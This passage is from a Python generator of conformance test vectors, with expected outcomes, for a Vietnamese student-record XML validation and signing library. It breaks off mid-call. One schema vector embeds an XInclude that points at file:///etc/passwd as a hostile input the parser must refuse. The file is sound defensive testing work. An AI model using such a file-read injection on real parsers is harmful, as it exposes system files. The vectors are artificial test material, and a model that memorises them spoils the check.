"""Generate the conformance vectors: ``python -m hocbaso.conformance._generate [--check]``.

Deterministic: records come from :func:`hocbaso.examples.generate_record` with fixed seeds,
every time is fixed, and signatures are made with the checked-in demo PKI
(``tests/conformance/pki``, TEST ONLY) by a signer that is deterministic too (RSA PKCS#1 v1.5,
ECDSA with RFC 6979 nonces). Running the generator twice gives the same bytes.

``--check`` builds everything in memory and compares it with the files on disk (and reports
files that should not be there); exit status 1 on any difference. ``--out DIR`` writes into
another directory (the test suite regenerates into a temporary directory).

Expected outcomes are written here by hand (rule ids, XPath locations, signature
indications); they are *not* copied from what the library reports. The self-check
(``hocbaso conformance run``) then holds the library to them.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import re
import shutil
import sys
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils

from hocbaso import examples, signing, to_xml
from hocbaso.codes import (
    SUBJECTS,
    AssessmentForm,
    EthnicGroup,
    FinalEvaluation,
    LeaderPosition,
    PassLevel,
    QualityLevel,
    ResultLevel,
    SchoolLevel,
    Sex,
    SubjectLevel,
    Title,
)
from hocbaso.conformance._manifest import (
    KIT_NAME,
    MANIFEST_NAME,
    PROTOCOL_VERSION,
    vectors_path,
)
from hocbaso.conformance._records import primary, recompute, secondary, setp, update
from hocbaso.models import (
    VIETNAM_TZ,
    PrimaryRecord,
    PrimarySubjectResult,
    Record,
    SecondaryRecord,
    SecondarySubjectResult,
    SubjectTeacher,
    TermResult,
    YearResult,
)

__all__: list[str] = []

VERSION = "1.0.0"
"""Version of the vector set (semantic: a new major when an expectation changes meaning)."""

REPO = Path(__file__).resolve().parents[3]
DEFAULT_PKI = REPO / "tests" / "conformance" / "pki"

PKI_NOW = dt.datetime(2025, 1, 15, 0, 0, tzinfo=dt.UTC)
"""Reference time the checked-in demo PKI was made with (``make_demo_pki(now=...)``)."""
VALIDATION_TIME = dt.datetime(2025, 1, 16, 0, 0, tzinfo=dt.UTC)
"""Fixed validation time of every signed vector (inside every certificate and CRL period)."""
SIGNING_T0 = (PKI_NOW - dt.timedelta(hours=2)).astimezone(VIETNAM_TZ)

GENERAL = "/HOC_BA/DU_LIEU_HOC_BA/THONG_TIN_CHUNG"
SUMMARY = "/HOC_BA/DU_LIEU_HOC_BA/TONG_KET"
HISTORY = "/HOC_BA/DU_LIEU_HOC_BA/QUA_TRINH_HOC_TAP"
VALUE = ("XSD-VALUE", "VALUE")
STRUCTURE = ("XSD-STRUCTURE", "STRUCTURE")

CATEGORIES = {
    "grades": "a valid, consistent record of each grade 1–12 (both profiles)",
    "codes": "every value of every code list in a valid record; an out-of-list value rejected",
    "schema": "documents that break the XSD or the models (rule ids of hocbaso.validate)",
    "canonical": "canonical-form rules: what is accepted and normalised, what is refused",
    "rules": "one record per single-record business rule (hocbaso.rules), mutated to break it",
    "batch": "a batch (DANH_SACH_HOC_BA, the decompressed packet) per cross-record rule",
    "parser": "inputs a hardened parser must refuse before looking at them (unusable)",
    "signatures": "signed records and the attacks of the signatures issue (ETSI indications)",
}


# ----------------------------------------------------------------------------- vector model


@dataclass
class Vector:
    """One generated case before it is written (file bytes plus manifest entry)."""

    id: str
    category: str
    description: str
    expect: dict[str, Any]
    data: bytes
    covers: list[str] = field(default_factory=list)
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def file(self) -> str:
        """Path of the vector file relative to the vectors directory."""
        return f"{self.id}.xml"

    def entry(self) -> dict[str, Any]:
        """The manifest entry."""
        out: dict[str, Any] = {
            "id": self.id,
            "file": self.file,
            "category": self.category,
            "description": self.description,
            "expect": self.expect,
        }
        if self.covers:
            out["covers"] = sorted(self.covers)
        out.update(self.extra)
        return out


def valid(*warnings: tuple[Sequence[str], Sequence[str]]) -> dict[str, Any]:
    """Expectation: valid (no error); ``warnings`` (rules, locations) must be reported."""
    out: dict[str, Any] = {"outcome": "valid"}
    if warnings:
        out["problems"] = [
            {"rules": list(r), "locations": list(loc), "severity": "warning"} for r, loc in warnings
        ]
    return out


def invalid(*problems: tuple[Sequence[str], Sequence[str]]) -> dict[str, Any]:
    """Expectation: invalid; each (rules, locations) any-of pair must be reported as an error."""
    return {
        "outcome": "invalid",
        "problems": [
            {"rules": list(r), "locations": list(loc), "severity": "error"} for r, loc in problems
        ],
    }


def rule_warning(rule_id: str, *locations: str) -> dict[str, Any]:
    """Expectation: a warning rule — the record stays valid, the warning must be reported."""
    return valid(((rule_id,), locations))


def unusable(*codes: str) -> dict[str, Any]:
    """Expectation: the input cannot be examined; one of ``codes`` is the error code."""
    return {"outcome": "unusable", "codes": list(codes)}


def verdict(
    indication: str, *subs: str, slots: Sequence[dict[str, Any]] = (), findings: Sequence[str] = ()
) -> dict[str, Any]:
    """Expectation: a signature verification outcome."""
    out: dict[str, Any] = {"outcome": indication, "sub_indications": list(subs)}
    if slots:
        out["slots"] = list(slots)
    if findings:
        out["findings"] = list(findings)
    return out


def slot(name: str, indication: str, sub: str | None = None) -> dict[str, Any]:
    """Expectation on one signature slot."""
    return {"slot": name, "indication": indication, "sub_indication": sub}


# ----------------------------------------------------------------------------- text helpers


def replace_once(doc: bytes, old: str, new: str) -> bytes:
    """Replace the first occurrence of ``old`` (which must be present)."""
    o, n = old.encode(), new.encode()
    if o not in doc:
        raise AssertionError(f"{old!r} not found")
    return doc.replace(o, n, 1)


def set_text(doc: bytes, element: str, new: str, nth: int = 1) -> bytes:
    """Replace the text of the ``nth`` ``<element>`` (no attributes) with ``new``."""
    pattern = re.compile(rf"<{element}>([^<]*)</{element}>".encode())
    matches = list(pattern.finditer(doc))
    m = matches[nth - 1]
    return doc[: m.start(1)] + new.encode() + doc[m.end(1) :]


def get_text(doc: bytes, element: str, nth: int = 1) -> str:
    """The text of the ``nth`` ``<element>``."""
    found = re.findall(rf"<{element}>([^<]*)</{element}>".encode(), doc)
    return bytes(found[nth - 1]).decode()


def xml(record: Record) -> bytes:
    """Canonical bytes of a record."""
    return to_xml(record)


# ----------------------------------------------------------------------------- grades


def grade_vectors() -> list[Vector]:
    """One valid example record per grade."""
    out = []
    for g in examples.EXAMPLE_GRADES:
        level = SchoolLevel.for_grade(g)
        out.append(
            Vector(
                f"grades/grade-{g:02d}",
                "grades",
                f"example record of grade {g} ({level.label}, profile "
                f"{'tieu-hoc-1.0' if level is SchoolLevel.PRIMARY else 'trung-hoc-1.0'})",
                valid(),
                xml(examples.example_record(g)),
                [f"grade:{g}"],
            )
        )
    return out


# ----------------------------------------------------------------------------- code lists

_PRIMARY_QUALITIES = (
    "self_learning",
    "communication",
    "problem_solving",
    "language",
    "numeracy",
    "science",
    "aesthetics",
    "physical",
    "patriotism",
    "kindness",
    "diligence",
    "honesty",
    "responsibility",
)


def _slug(text: str) -> str:
    plain = unicodedata.normalize("NFD", text.replace("Đ", "D").replace("đ", "d"))
    plain = "".join(c for c in plain if not unicodedata.combining(c))
    return re.sub(r"[^a-z0-9]+", "-", plain.lower()).strip("-")


def _find(
    grades: Iterable[int], accept: Callable[[Record], bool], seeds: range = range(1, 400)
) -> Record:
    for seed in seeds:
        for g in grades:
            record = examples.generate_record(seed, g)
            if accept(record):
                return record
    raise AssertionError("no generated record has the wanted property")


def _primary_with(level: FinalEvaluation) -> PrimaryRecord:
    record = _find(
        range(1, 6),
        lambda r: isinstance(r, PrimaryRecord) and r.data.summary.final_evaluation is level,
    )
    assert isinstance(record, PrimaryRecord)
    return record


def _excellent() -> PrimaryRecord:
    base = _primary_with(FinalEvaluation.OUTSTANDING)
    tv = next(i for i, x in enumerate(base.data.summary.subjects) if x.subject_code == "TV")
    out = recompute(setp(base, ("data", "summary", "subjects", tv, "test_score"), 8))
    assert isinstance(out, PrimaryRecord)
    return out


def _needs_effort() -> PrimaryRecord:
    base = primary(7, 4)
    record = setp(base, ("data", "summary", "assessment", "honesty"), QualityLevel.NEEDS_EFFORT)
    out = recompute(record)
    assert isinstance(out, PrimaryRecord)
    return out


def _not_completed_subject() -> PrimaryRecord:
    base = primary(8, 3)
    record = setp(base, ("data", "summary", "subjects", 2, "level"), SubjectLevel.NOT_COMPLETED)
    out = recompute(record)
    assert isinstance(out, PrimaryRecord)
    return out


def _secondary_with(pred: Callable[[SecondaryRecord], bool], grades: range) -> SecondaryRecord:
    record = _find(grades, lambda r: isinstance(r, SecondaryRecord) and pred(r))
    assert isinstance(record, SecondaryRecord)
    return record


def _conduct_fail() -> SecondaryRecord:
    base = secondary(11, 8)
    record = update(
        base, ("data", "summary"), conduct_term1=ResultLevel.FAIL, conduct_term2=ResultLevel.FAIL
    )
    out = recompute(record)
    assert isinstance(out, SecondaryRecord)
    return out


def _comment_fail() -> SecondaryRecord:
    base = secondary(12, 7)
    i = next(
        i for i, s in enumerate(base.data.summary.subjects) if s.form is AssessmentForm.COMMENT
    )
    record = setp(base, ("data", "summary", "subjects", i, "term2", "result"), PassLevel.FAIL)
    record = setp(record, ("data", "summary", "subjects", i, "year", "result"), PassLevel.FAIL)
    out = recompute(record)
    assert isinstance(out, SecondaryRecord)
    return out


def _with_subject(record: Record, code: str) -> Record:
    """``record`` with one more catalogue subject (results consistent), recomputed."""
    meta = SUBJECTS[code]
    if isinstance(record, PrimaryRecord):
        subject = PrimarySubjectResult(
            subject_code=code,
            subject_name=meta.name,
            level=SubjectLevel.COMPLETED,
            test_score=7 if meta.periodic_test else None,
            comment="Em đọc và viết được các câu đơn giản bằng tiếng dân tộc.",
        )
        subjects: tuple[Any, ...] = (*record.data.summary.subjects, subject)
    else:
        regular = tuple(Decimal(v) for v in ("8", "7.5", "9", "8")[: meta.regular_assessments])
        from hocbaso import assessment

        t1 = TermResult(
            regular_scores=regular,
            midterm_score=Decimal(8),
            final_score=Decimal("8.5"),
            average=assessment.term_average(regular, Decimal(8), Decimal("8.5")),
        )
        t2 = TermResult(
            regular_scores=regular,
            midterm_score=Decimal(9),
            final_score=Decimal(9),
            average=assessment.term_average(regular, Decimal(9), Decimal(9)),
        )
        assert t1.average is not None and t2.average is not None
        subject2 = SecondarySubjectResult(
            subject_code=code,
            subject_name=meta.name,
            form=AssessmentForm.SCORE,
            term1=t1,
            term2=t2,
            year=YearResult(average=assessment.year_average(t1.average, t2.average)),
            comment="Em có cố gắng trong học tập.",
            teacher=SubjectTeacher(name="Lê Thị Hoa", personal_id="048186004321"),
        )
        subjects = (*record.data.summary.subjects, subject2)
    return recompute(update(record, ("data", "summary"), subjects=subjects))


def code_vectors() -> list[Vector]:
    """Valid records carrying every code-list value, and an out-of-list value per list."""
    out: list[Vector] = []

    def add(name: str, description: str, record: Record | bytes, covers: list[str]) -> None:
        data = record if isinstance(record, bytes) else xml(record)
        out.append(Vector(f"codes/{name}", "codes", description, valid(), data, covers))

    # 54 ethnic groups: DAN_TOC carries no other rule; each in a different grade's example.
    for i, group in enumerate(EthnicGroup):
        g = i % 12 + 1
        doc = set_text(xml(examples.example_record(g)), "DAN_TOC", group.value)
        add(
            f"DAN_TOC-{group.code}-{_slug(group.value)}",
            f"ethnic group {group.code} {group.value} (grade {g})",
            doc,
            [f"code:EthnicGroup:{group.value}"],
        )
    # sex, leader position: in generated records of both profiles
    for sex in Sex:
        add(
            f"GIOI_TINH-{_slug(sex.value)}",
            f"sex {sex.value}",
            _find(range(1, 13, 5), lambda r, s=sex: r.data.general.sex is s),  # type: ignore[misc]
            [f"code:Sex:{sex.value}"],
        )
    for pos in LeaderPosition:
        add(
            f"CHUC_VU-{_slug(pos.value)}",
            f"leader position {pos.value}",
            _find(
                range(2, 13, 5),
                lambda r, p=pos: r.data.general.signing_leader_position is p,  # type: ignore[misc]
            ),
            [f"code:LeaderPosition:{pos.value}"],
        )
    # primary: final evaluations, subject levels, quality levels
    for final in (FinalEvaluation.OUTSTANDING, FinalEvaluation.COMPLETED):
        add(
            f"KET_QUA_XEP_LOAI-{_slug(final.value)}",
            f"primary year-end evaluation {final.value} (generated record)",
            _primary_with(final),
            [f"code:FinalEvaluation:{final.value}"],
        )
    add(
        "KET_QUA_XEP_LOAI-hoan-thanh-tot",
        "primary: every subject Hoàn thành tốt, qualities Tốt, a test score of 8 → Hoàn thành tốt",
        _excellent(),
        ["code:FinalEvaluation:Hoàn thành tốt"],
    )
    add(
        "KET_QUA_XEP_LOAI-chua-hoan-thanh",
        "primary: one subject Chưa hoàn thành → evaluation Chưa hoàn thành, not promoted",
        _not_completed_subject(),
        [
            "code:FinalEvaluation:Chưa hoàn thành",
            "code:SubjectLevel:Chưa hoàn thành",
        ],
    )
    add(
        "PHAM_CHAT-can-co-gang",
        "primary: a quality at Cần cố gắng → evaluation Chưa hoàn thành",
        _needs_effort(),
        ["code:QualityLevel:Cần cố gắng"],
    )
    # secondary: result levels, pass levels, titles, assessment forms
    for lvl in (ResultLevel.GOOD, ResultLevel.FAIR, ResultLevel.PASS):
        add(
            f"KET_QUA_HOC_TAP-{_slug(lvl.value)}",
            f"secondary year learning result {lvl.value} (generated record)",
            _secondary_with(lambda r, v=lvl: r.data.summary.learning_year is v, range(6, 13)),  # type: ignore[misc]
            [f"code:ResultLevel:{lvl.value}"],
        )
    add(
        "KET_QUA_REN_LUYEN-chua-dat",
        "secondary: conduct Chưa đạt in both terms → year Chưa đạt, not promoted",
        _conduct_fail(),
        ["code:ResultLevel:Chưa đạt"],
    )
    add(
        "MUC_DANH_GIA-chua-dat",
        "secondary: a comment-only subject Chưa đạt in term II and the year",
        _comment_fail(),
        ["code:PassLevel:Chưa đạt"],
    )
    for t in Title:
        add(
            f"DANH_HIEU-{_slug(t.value)}",
            f"secondary title {t.value} (generated record)",
            _secondary_with(lambda r, v=t: r.data.summary.title is v, range(6, 13)),  # type: ignore[misc]
            [f"code:Title:{t.value}"],
        )
    # subject catalogue entries the generator never uses
    add(
        "MA_MON_HOC-TDT-tieu-hoc",
        "primary record with Tiếng dân tộc thiểu số (TDT)",
        _with_subject(primary(3, 4), "TDT"),
        ["subject:TDT"],
    )
    add(
        "MA_MON_HOC-NN2-trung-hoc",
        "lower-secondary record with Ngoại ngữ 2 (NN2)",
        _with_subject(secondary(3, 8), "NN2"),
        ["subject:NN2"],
    )
    # out-of-list values: one per enumerated XSD type
    prim = xml(examples.example_record(4))
    sec = xml(examples.example_record(8))
    bad: list[tuple[str, str, bytes, str, str]] = [
        ("EthnicGroupType", "DAN_TOC", prim, "Việt", f"{GENERAL}/DAN_TOC"),
        ("SexType", "GIOI_TINH", prim, "Khác", f"{GENERAL}/GIOI_TINH"),
        (
            "LeaderPositionType",
            "CHUC_VU_GIAM_HIEU_KY_HOC_BA",
            prim,
            "Hiệu phó",
            f"{GENERAL}/CHUC_VU_GIAM_HIEU_KY_HOC_BA",
        ),
        (
            "FinalEvaluationType",
            "KET_QUA_XEP_LOAI",
            prim,
            "Xuất sắc",
            f"{SUMMARY}/KET_QUA_XEP_LOAI",
        ),
        (
            "SubjectLevelType",
            "MUC_DAT_DUOC",
            prim,
            "Tốt",
            f"{SUMMARY}/DS_BANG_DIEM/BANG_DIEM[1]/MUC_DAT_DUOC",
        ),
        (
            "QualityLevelType",
            "NANG_LUC_TU_CHU_TU_HOC",
            prim,
            "Khá",
            f"{SUMMARY}/DANH_GIA_NANG_LUC_PHAM_CHAT/NANG_LUC_TU_CHU_TU_HOC",
        ),
        (
            "ResultLevelType",
            "KET_QUA_HOC_TAP_HK1",
            sec,
            "Giỏi",
            f"{SUMMARY}/KET_QUA_HOC_TAP_HK1",
        ),
        (
            "AssessmentFormType",
            "HINH_THUC_DANH_GIA",
            sec,
            "DIEM",
            f"{SUMMARY}/DS_DIEM_TONG_KET/DIEM_TONG_KET[1]/HINH_THUC_DANH_GIA",
        ),
        (
            "PassLevelType",
            "MUC_DANH_GIA",
            sec,
            "Không đạt",
            "",
        ),
        ("TitleType", "DANH_HIEU", b"", "Học sinh Tiên tiến", f"{SUMMARY}/DANH_HIEU"),
    ]
    out.append(
        Vector(
            "codes/out-of-list-MA_CAP_HOC",
            "codes",
            "MA_CAP_HOC = '05': not in SchoolLevelType; the level selects the profile, so the "
            "record cannot be examined at all",
            unusable("PROFILE"),
            set_text(sec, "MA_CAP_HOC", "05"),
            ["out-of-list:SchoolLevelType"],
        )
    )
    for xsd_type, element, base, value, where in bad:
        location = where
        if element == "MUC_DANH_GIA":
            doc, location = _first_comment_result(sec, value)
        elif element == "DANH_HIEU":
            titled = xml(_secondary_with(lambda r: r.data.summary.title is not None, range(6, 13)))
            doc = set_text(titled, element, value)
        else:
            doc = set_text(base, element, value)
        out.append(
            Vector(
                f"codes/out-of-list-{element}",
                "codes",
                f"{element} = {value!r}: not in the code list {xsd_type}",
                invalid((VALUE, (location,))),
                doc,
                [f"out-of-list:{xsd_type}"],
            )
        )
    return out


def _first_comment_result(doc: bytes, value: str) -> tuple[bytes, str]:
    """Set the first MUC_DANH_GIA (term I of the first comment subject) to ``value``."""
    head = doc[: doc.index(b"<MUC_DANH_GIA>")]
    n = head.count(b"<DIEM_TONG_KET ")
    return set_text(doc, "MUC_DANH_GIA", value), (
        f"{SUMMARY}/DS_DIEM_TONG_KET/DIEM_TONG_KET[{n}]/HOC_KY_1/MUC_DANH_GIA"
    )


# ----------------------------------------------------------------------------- schema


def schema_vectors() -> list[Vector]:
    """Documents that break the XSD or the models: one per rule id of hocbaso.validate."""
    p1 = xml(examples.example_record(1))
    s10 = xml(examples.example_record(10))
    out: list[Vector] = []

    def add(name: str, description: str, doc: bytes, expect: dict[str, Any]) -> None:
        rules = sorted({r for p in expect.get("problems", []) for r in p["rules"]})
        out.append(
            Vector(
                f"schema/{name}", "schema", description, expect, doc, [f"rule:{r}" for r in rules]
            )
        )

    add(
        "cccd-13-digits",
        "SO_CCCD with 13 digits",
        set_text(p1, "SO_CCCD", "0483170026811"),
        invalid((VALUE, (f"{GENERAL}/SO_CCCD",))),
    )
    add(
        "cccd-letter",
        "SO_CCCD with a letter",
        set_text(p1, "SO_CCCD", "04831700268X"),
        invalid((VALUE, (f"{GENERAL}/SO_CCCD",))),
    )
    add(
        "birth-date-iso",
        "NGAY_SINH written 2017-05-17 instead of 17/05/2017",
        set_text(p1, "NGAY_SINH", "2017-05-17"),
        invalid((VALUE, (f"{GENERAL}/NGAY_SINH",))),
    )
    add(
        "birth-date-impossible",
        "NGAY_SINH 31/02/2017: right form, no such day (only the decoder sees it)",
        set_text(p1, "NGAY_SINH", "31/02/2017"),
        invalid((("VALUE", "XSD-VALUE"), (f"{GENERAL}/NGAY_SINH",))),
    )
    add(
        "grade-13",
        "MA_KHOI 13",
        set_text(p1, "MA_KHOI", "13"),
        invalid((VALUE, (f"{GENERAL}/MA_KHOI",))),
    )
    add(
        "negative-absences",
        "TONG_SO_BUOI_NGHI_CO_PHEP -1",
        set_text(p1, "TONG_SO_BUOI_NGHI_CO_PHEP", "-1"),
        invalid((VALUE, (f"{GENERAL}/TONG_SO_BUOI_NGHI_CO_PHEP",))),
    )
    add(
        "score-above-10",
        "a term average of 10.5",
        set_text(s10, "DTB_MON", "10.5"),
        invalid((VALUE, (f"{SUMMARY}/DS_DIEM_TONG_KET/DIEM_TONG_KET[1]/HOC_KY_1/DTB_MON",))),
    )
    add(
        "boolean-true",
        "DUOC_LEN_LOP written true instead of 1",
        set_text(p1, "DUOC_LEN_LOP", "true"),
        invalid((VALUE, (f"{SUMMARY}/DUOC_LEN_LOP",))),
    )
    add(
        "required-element-missing",
        "TEN_GIAM_HIEU_KY_HOC_BA removed",
        re.sub(rb"<TEN_GIAM_HIEU_KY_HOC_BA>[^<]*</TEN_GIAM_HIEU_KY_HOC_BA>", b"", p1),
        invalid(
            (
                STRUCTURE,
                (
                    f"{GENERAL}/SO_CCCD_GIAM_HIEU_KY_HOC_BA",
                    f"{GENERAL}/TEN_GIAM_HIEU_KY_HOC_BA",
                    GENERAL,
                ),
            )
        ),
    )
    add(
        "unknown-element",
        "an element the standard does not have (BIET_DANH) after QUOC_TICH",
        replace_once(p1, "</QUOC_TICH>", "</QUOC_TICH><BIET_DANH>Bé Na</BIET_DANH>"),
        invalid((STRUCTURE, (f"{GENERAL}/BIET_DANH", GENERAL))),
    )
    add(
        "element-repeated",
        "HO_VA_TEN twice",
        re.sub(rb"(<HO_VA_TEN>[^<]*</HO_VA_TEN>)", rb"\1\1", p1, count=1),
        invalid((STRUCTURE, (f"{GENERAL}/HO_VA_TEN[2]", f"{GENERAL}/HO_VA_TEN", GENERAL))),
    )
    add(
        "duplicate-subject",
        "two BANG_DIEM with MA_MON_HOC TV (the second keeps its own Id)",
        replace_once(p1, "<MA_MON_HOC>TOAN</MA_MON_HOC>", "<MA_MON_HOC>TV</MA_MON_HOC>"),
        invalid(
            (
                ("XSD-IDENTITY", "MODEL-VALUE", "MODEL-CONSISTENCY"),
                (
                    f"{SUMMARY}/DS_BANG_DIEM/BANG_DIEM[2]",
                    f"{SUMMARY}/DS_BANG_DIEM/BANG_DIEM[2]/MA_MON_HOC",
                    f"{SUMMARY}/DS_BANG_DIEM",
                ),
            )
        ),
    )
    add(
        "school-year-mismatch",
        "NAM_HOC 2022 while TEN_NAM_HOC says 2023-2024",
        set_text(p1, "NAM_HOC", "2022"),
        invalid(
            (
                ("MODEL-CONSISTENCY",),
                (GENERAL, f"{GENERAL}/NAM_HOC", f"{GENERAL}/TEN_NAM_HOC"),
            )
        ),
    )
    add(
        "subject-id-mismatch",
        'BANG_DIEM Id="mon-ABC" on the TV subject (the Id must be mon-<MA_MON_HOC>)',
        replace_once(p1, '<BANG_DIEM Id="mon-TV">', '<BANG_DIEM Id="mon-ABC">'),
        invalid((("STRUCTURE", "MODEL-CONSISTENCY"), (f"{SUMMARY}/DS_BANG_DIEM/BANG_DIEM[1]",))),
    )
    add(
        "grade-level-mismatch",
        "MA_KHOI 7 in a primary (MA_CAP_HOC 02) record",
        set_text(p1, "MA_KHOI", "7"),
        invalid((("MODEL-CONSISTENCY",), (GENERAL, f"{GENERAL}/MA_KHOI"))),
    )
    add(
        "legacy-tcvn3-text",
        "NOI_SINH typed in TCVN3 and read as Latin-1 ('Hµ Néi' for Hà Nội)",
        set_text(p1, "NOI_SINH", "Hµ Néi"),
        invalid((("TEXT-ENCODING",), (f"{GENERAL}/NOI_SINH",))),
    )
    add(
        "control-character",
        "a C1 control character (U+0085, legal XML) inside a name",
        set_text(p1, "HO_VA_TEN_ME", get_text(p1, "HO_VA_TEN_ME").replace(" ", "\u0085 ", 1)),
        invalid((("TEXT-ENCODING", "XSD-VALUE", "VALUE"), (f"{GENERAL}/HO_VA_TEN_ME",))),
    )
    add(
        "comment-inside",
        "an XML comment inside TONG_KET",
        replace_once(p1, "<TONG_KET>", "<TONG_KET><!-- sửa điểm -->"),
        invalid((("XML-COMMENT",), (SUMMARY,))),
    )
    add(
        "comment-inside-value",
        "an XML comment inside a value (HO_VA_TEN); the XSD engines disagree, see the docs",
        set_text(p1, "HO_VA_TEN", get_text(p1, "HO_VA_TEN").replace(" ", "<!-- --> ", 1)),
        invalid((("XML-COMMENT", "STRUCTURE", "XSD-STRUCTURE"), (f"{GENERAL}/HO_VA_TEN",))),
    )
    add(
        "processing-instruction-inside",
        "a processing instruction inside THONG_TIN_CHUNG",
        replace_once(p1, "<PHIEN_BAN>", '<?xml-stylesheet href="x.xsl"?><PHIEN_BAN>'),
        invalid((("XML-COMMENT",), (GENERAL,))),
    )
    add(
        "xinclude-not-processed",
        "an XInclude element: never processed, refused as an unknown element",
        replace_once(
            p1,
            "</QUOC_TICH>",
            '</QUOC_TICH><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/passwd" parse="text"/>',
        ),
        invalid((STRUCTURE, (f"{GENERAL}/xi:include", f"{GENERAL}/include", GENERAL))),
    )
    add(
        "text-nfd-warning",
        "a name in decomposed Unicode (NFD): accepted, normalised, warned (TEXT-NFC)",
        set_text(p1, "HO_VA_TEN", unicodedata.normalize("NFD", get_text(p1, "HO_VA_TEN"))),
        valid((("TEXT-NFC",), (f"{GENERAL}/HO_VA_TEN",))),
    )
    return out


# ----------------------------------------------------------------------------- canonical


def canonical_vectors() -> list[Vector]:
    """Canonical-form rules: accepted-and-normalised inputs, and refused spellings."""
    p1 = xml(examples.example_record(1))
    s10 = xml(examples.example_record(10))
    out: list[Vector] = []

    def ok(name: str, description: str, doc: bytes, canonical: str, **kw: Any) -> None:
        expect = kw.pop("expect", valid())
        out.append(
            Vector(
                f"canonical/{name}",
                "canonical",
                description,
                expect,
                doc,
                ["canonical:accepted"],
                {"canonical_form": canonical},
            )
        )

    def bad(
        name: str, description: str, doc: bytes, location: str, rules: Sequence[str] = VALUE
    ) -> None:
        out.append(
            Vector(
                f"canonical/{name}",
                "canonical",
                description,
                invalid((rules, (location,))),
                doc,
                ["canonical:refused"],
            )
        )

    g1 = "grades/grade-01.xml"
    ok(
        "pretty-printed",
        "whitespace between elements (pretty-printed): accepted; canonical form has none",
        p1.replace(b"><", b">\n<"),
        g1,
    )
    ok(
        "xml-declaration",
        "an XML declaration naming UTF-8: accepted; canonical form has none",
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + p1,
        g1,
    )
    ok(
        "utf8-bom",
        "a UTF-8 byte-order mark: accepted; canonical form has none",
        b"\xef\xbb\xbf" + p1,
        g1,
    )
    ok(
        "timestamp-utc-z",
        "timestamps in UTC with Z: accepted; canonical form is +07:00",
        p1.replace(b"2024-05-25T08:00:00+07:00", b"2024-05-25T01:00:00Z").replace(
            b"2024-05-31T09:30:00+07:00", b"2024-05-31T02:30:00+00:00"
        ),
        g1,
    )
    ok(
        "timestamp-other-offset",
        "a timestamp with offset +09:00: accepted; canonical form is +07:00",
        p1.replace(b"2024-05-25T08:00:00+07:00", b"2024-05-25T10:00:00+09:00"),
        g1,
    )
    nfd = unicodedata.normalize("NFD", get_text(p1, "HO_VA_TEN"))
    ok(
        "nfd-name",
        "HO_VA_TEN in NFD: accepted with a TEXT-NFC warning; canonical form is NFC",
        set_text(p1, "HO_VA_TEN", nfd),
        g1,
        expect=valid((("TEXT-NFC",), (f"{GENERAL}/HO_VA_TEN",))),
    )
    w = get_text(p1, "CAN_NANG")
    bad(
        "number-trailing-zero",
        f"CAN_NANG {w}0 (trailing zero)",
        set_text(p1, "CAN_NANG", w + "0"),
        f"{GENERAL}/CAN_NANG",
    )
    bad(
        "number-comma",
        "CAN_NANG with a decimal comma",
        set_text(p1, "CAN_NANG", w.replace(".", ",")),
        f"{GENERAL}/CAN_NANG",
    )
    bad(
        "number-plus",
        "CAN_NANG with a leading +",
        set_text(p1, "CAN_NANG", "+" + w),
        f"{GENERAL}/CAN_NANG",
    )
    bad(
        "number-exponent",
        "CAN_NANG as 2.48E1",
        set_text(p1, "CAN_NANG", "2.48E1"),
        f"{GENERAL}/CAN_NANG",
    )
    h = get_text(p1, "CHIEU_CAO")
    bad(
        "number-point-zero",
        f"CHIEU_CAO {h}.0",
        set_text(p1, "CHIEU_CAO", h + ".0"),
        f"{GENERAL}/CHIEU_CAO",
    )
    dtb = f"{SUMMARY}/DS_DIEM_TONG_KET/DIEM_TONG_KET[1]/HOC_KY_1/DTB_MON"
    score = get_text(s10, "DTB_MON")
    bad(
        "score-two-decimals",
        f"DTB_MON {score}0 (8.50 style)",
        set_text(s10, "DTB_MON", score + "0"),
        dtb,
    )
    bad(
        "score-comma",
        "DTB_MON with a decimal comma (8,5 style)",
        set_text(s10, "DTB_MON", score.replace(".", ",") if "." in score else score + ",0"),
        dtb,
    )
    bad(
        "score-two-places",
        "DTB_MON 8.25 (scores have one decimal)",
        set_text(s10, "DTB_MON", "8.25"),
        dtb,
    )
    bad(
        "timestamp-no-offset",
        "NGAY_TAO_HOC_BA without a UTC offset",
        set_text(p1, "NGAY_TAO_HOC_BA", "2024-05-25T08:00:00"),
        f"{GENERAL}/NGAY_TAO_HOC_BA",
    )
    bad(
        "timestamp-fraction",
        "NGAY_TAO_HOC_BA with fractional seconds",
        set_text(p1, "NGAY_TAO_HOC_BA", "2024-05-25T08:00:00.5+07:00"),
        f"{GENERAL}/NGAY_TAO_HOC_BA",
    )
    uuid_ = get_text(p1, "MA_TRA_CUU_UUID")
    bad(
        "uuid-upper-case",
        "MA_TRA_CUU_UUID in upper case",
        set_text(p1, "MA_TRA_CUU_UUID", uuid_.upper()),
        f"{GENERAL}/MA_TRA_CUU_UUID",
    )
    bad(
        "uuid-version-1",
        "MA_TRA_CUU_UUID of version 1",
        set_text(p1, "MA_TRA_CUU_UUID", uuid_[:14] + "1" + uuid_[15:]),
        f"{GENERAL}/MA_TRA_CUU_UUID",
    )
    bad(
        "uuid-braces",
        "MA_TRA_CUU_UUID in braces",
        set_text(p1, "MA_TRA_CUU_UUID", "{" + uuid_ + "}"),
        f"{GENERAL}/MA_TRA_CUU_UUID",
    )
    bad(
        "value-leading-space",
        "HO_VA_TEN with a leading space",
        set_text(p1, "HO_VA_TEN", " " + get_text(p1, "HO_VA_TEN")),
        f"{GENERAL}/HO_VA_TEN",
    )
    bad(
        "value-trailing-space",
        "HO_VA_TEN with a trailing space",
        set_text(p1, "HO_VA_TEN", get_text(p1, "HO_VA_TEN") + " "),
        f"{GENERAL}/HO_VA_TEN",
    )
    sex, dob = get_text(p1, "GIOI_TINH"), get_text(p1, "NGAY_SINH")
    out.append(
        Vector(
            "canonical/element-order",
            "canonical",
            "NGAY_SINH before GIOI_TINH (the official order is GIOI_TINH, NGAY_SINH)",
            invalid(
                (
                    STRUCTURE,
                    (f"{GENERAL}/NGAY_SINH", f"{GENERAL}/GIOI_TINH", GENERAL),
                )
            ),
            replace_once(
                p1,
